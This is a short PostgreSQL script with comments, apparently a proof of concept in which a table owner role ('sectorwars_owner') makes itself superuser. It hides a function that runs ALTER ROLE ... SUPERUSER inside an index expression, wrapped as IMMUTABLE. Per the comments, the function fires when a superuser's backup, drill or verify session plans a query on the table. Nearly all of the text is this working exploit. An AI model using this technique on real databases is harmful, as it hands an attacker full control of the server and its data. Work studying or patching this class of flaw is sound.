-- The owner becomes a superuser through an index, when a superuser's session plans any query of the table.
-- PostgreSQL simplifies the expressions of a table's indexes and statistics for every plan (RelationGetIndexExpressions,
-- get_relation_statistics), and calls immutable functions of constants at once, as the current user.
-- As sectorwars_owner:
CREATE SCHEMA constant;
CREATE FUNCTION constant.deed() RETURNS int LANGUAGE plpgsql VOLATILE AS $$
BEGIN
	RAISE WARNING 'constant.deed ran as %', current_user;
	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
		ALTER ROLE sectorwars_owner SUPERUSER;
	END IF;
	RETURN 1;
END $$;
-- An immutable function may not change anything itself, but may call one that does.
CREATE FUNCTION constant.quiet(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN (SELECT constant.deed()); END $$;
CREATE TABLE constant.t (a int);
INSERT INTO constant.t VALUES (1);
CREATE INDEX ON constant.t ((a + constant.quiet(1)));
-- Then: ./db backup, ./db drill, or ./db verify. Each read the table with a SELECT of the superuser's.
